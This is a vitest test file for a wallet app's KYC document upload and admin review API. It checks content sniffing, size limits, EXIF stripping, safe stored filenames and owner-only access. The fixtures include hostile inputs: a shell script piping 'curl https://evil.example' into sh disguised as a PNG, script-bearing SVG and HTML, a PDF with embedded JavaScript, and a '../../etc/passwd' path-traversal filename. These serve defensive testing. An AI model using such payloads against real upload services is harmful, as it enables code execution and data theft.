import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { KycDocument, Wallet } from '../../src/shared/contract/wallet'
import { KYC_MAX_BYTES } from '../../src/shared/kyc-rules'
import { createTestApp, type TestApp } from '../support/test-app'
import { createUser, createWallet, multipartBody, type TestUser } from './wallet-fixtures'

let t: TestApp
let user: TestUser
let admin: TestUser
beforeAll(async () => {
  t = await createTestApp({ seed: false })
  user = await createUser(t.app.db)
  admin = await createUser(t.app.db, { admin: true })
  await createWallet(t.app, user)
})
afterAll(() => t.close())

const upload = async (
  who: TestUser,
  file: { name: string; type: string; data: Buffer } | undefined,
  kind = 'identity',
) => {
  const body = await multipartBody({ kind }, file)
  return t.app.inject({
    method: 'POST',
    url: `/api/wallets/user/${user.username}/kyc`,
    headers: { ...who.headers, 'content-type': body.contentType },
    payload: body.payload,
  })
}

const photoWithExif = () =>
  sharp({ create: { width: 64, height: 48, channels: 3, background: '#c33' } })
    .jpeg()
    .withExif({ IFD0: { Copyright: 'GPS 48.8584 N 2.2945 E', Artist: 'Ada Lovelace' } })
    .toBuffer()

const documentError = (response: { json(): { errors: { children: { document: { errors: string[] } } } } }) =>
  response.json().errors.children.document.errors[0]

test('a shell script renamed .png is refused by its content', async () => {
  const response = await upload(user, {
    name: 'passport.png',
    type: 'image/png',
    data: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
  })
  expect(response.statusCode).toBe(400)
  expect(documentError(response)).toBe('kyc.unsupported_type')
})

test('an SVG carrying a script is refused', async () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
  const response = await upload(user, { name: 'id.svg', type: 'image/svg+xml', data: Buffer.from(svg) })
  expect(response.statusCode).toBe(400)
  expect(documentError(response)).toBe('kyc.unsupported_type')
})

test('an HTML page named .jpg is refused', async () => {
  const response = await upload(user, {
    name: 'id.jpg',
    type: 'image/jpeg',
    data: Buffer.from('<html><script>alert(1)</script></html>'),
  })
  expect(documentError(response)).toBe('kyc.unsupported_type')
})

test('an oversized document is refused with a clear error', async () => {
  const big = Buffer.concat([await photoWithExif(), Buffer.alloc(KYC_MAX_BYTES)])
  const response = await upload(user, { name: 'big.jpg', type: 'image/jpeg', data: big })
  expect(response.statusCode).toBe(400)
  expect(documentError(response)).toBe('kyc.too_large')
  expect(response.json().message).toMatch(/8 MB/)
})

test('a missing file or an unknown kind is a form error', async () => {
  expect(documentError(await upload(user, undefined))).toBe('validation.required')
  const photo = await photoWithExif()
  const badKind = await upload(user, { name: 'a.jpg', type: 'image/jpeg', data: photo }, 'selfie')
  expect(badKind.statusCode).toBe(400)
  expect(badKind.json().errors.children.kind).toBeDefined()
})

test('a real JPEG is accepted, stored under a server name with its EXIF removed', async () => {
  const photo = await photoWithExif()
  expect((await sharp(photo).metadata()).exif).toBeDefined()
  const response = await upload(user, { name: '../../etc/passwd.jpg', type: 'image/jpeg', data: photo })
  expect(response.statusCode).toBe(201)
  const document = response.json<KycDocument>()
  expect(document).toMatchObject({ kind: 'identity', status: 'pending', mimeType: 'image/jpeg' })

  const stored = readdirSync(join(t.app.config.dataDir, 'kyc'))
  expect(stored.some((name) => name.includes('passwd') || name.includes('..'))).toBe(false)
  expect(stored.every((name) => /^[0-9a-f-]{36}\.(jpg|png|webp|pdf)$/.test(name))).toBe(true)

  const download = await t.app.inject({
    url: `/api/wallets/user/${user.username}/kyc/${document.id}`,
    headers: user.headers,
  })
  expect(download.statusCode).toBe(200)
  expect(download.headers['content-disposition']).toMatch(/^attachment;/)
  expect(download.headers['x-content-type-options']).toBe('nosniff')
  expect(download.headers['content-type']).toBe('image/jpeg')
  const metadata = await sharp(download.rawPayload).metadata()
  expect(metadata.exif).toBeUndefined()
  expect(download.rawPayload.toString('latin1')).not.toContain('48.8584')

  const wallet = await t.app.inject({ url: `/api/wallets/user/${user.username}`, headers: user.headers })
  expect(wallet.json<Wallet>().stripe.status.person.status).toBe('pending')
})

test('documents are served to their owner and admins only', async () => {
  const photo = await photoWithExif()
  const document = (
    await upload(user, { name: 'a.jpg', type: 'image/jpeg', data: photo })
  ).json<KycDocument>()
  const url = `/api/wallets/user/${user.username}/kyc/${document.id}`
  const stranger = await createUser(t.app.db)
  expect((await t.app.inject({ url, headers: stranger.headers })).statusCode).toBe(403)
  expect((await t.app.inject({ url })).statusCode).toBe(401)
  expect((await t.app.inject({ url, headers: admin.headers })).statusCode).toBe(200)
  // Another user's document id under one's own name is not found, not served.
  await createWallet(t.app, stranger)
  const crossed = await t.app.inject({
    url: `/api/wallets/user/${stranger.username}/kyc/${document.id}`,
    headers: stranger.headers,
  })
  expect(crossed.statusCode).toBe(404)
})

test('a plain PDF is accepted; a PDF with JavaScript is refused', async () => {
  const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
  const ok = await upload(user, { name: 'scan.pdf', type: 'application/pdf', data: pdf }, 'proof_of_address')
  expect(ok.statusCode).toBe(201)
  const hostile = Buffer.from(
    '%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF\n',
  )
  const refused = await upload(user, { name: 'scan.pdf', type: 'application/pdf', data: hostile })
  expect(documentError(refused)).toBe('kyc.unsupported_type')
})

test('an admin rejects with a reason, then verifies; the wallet status follows', async () => {
  const queue = await t.app.inject({ url: '/api/admin/kyc?status=pending', headers: admin.headers })
  const items = queue.json<{ items: Array<{ id: string; username: string; kind: string }> }>().items
  const identity = items.filter((item) => item.username === user.username && item.kind === 'identity')
  expect(identity.length).toBeGreaterThanOrEqual(2)
  const review = (id: string, payload: object) =>
    t.app.inject({ method: 'PUT', url: `/api/admin/kyc/${id}`, headers: admin.headers, payload })
  const walletStatus = async () =>
    (await t.app.inject({ url: `/api/wallets/user/${user.username}`, headers: user.headers })).json<Wallet>()
      .stripe.status.person

  expect((await review(identity[0]?.id ?? '', { status: 'rejected' })).statusCode).toBe(400)
  for (const item of identity) {
    expect((await review(item.id, { status: 'rejected', reason: 'The photo is blurred' })).statusCode).toBe(
      200,
    )
  }
  expect(await walletStatus()).toEqual({ status: 'rejected', reason: 'The photo is blurred' })
  expect((await review(identity[0]?.id ?? '', { status: 'verified' })).statusCode).toBe(409)

  const photo = await photoWithExif()
  const fresh = (await upload(user, { name: 'new.jpg', type: 'image/jpeg', data: photo })).json<KycDocument>()
  expect((await walletStatus()).status).toBe('pending')
  expect((await review(fresh.id, { status: 'verified' })).statusCode).toBe(200)
  expect(await walletStatus()).toEqual({ status: 'verified', reason: null })
  const onboarding = await t.app.inject({
    url: `/api/wallets/user/${user.username}/onboarding`,
    headers: user.headers,
  })
  expect(onboarding.json().certificationVerified).toBe(true)
  const audit = await t.app.db.query.auditLog.findMany()
  expect(audit.filter((row) => row.action === 'kyc.review').length).toBeGreaterThanOrEqual(3)
})
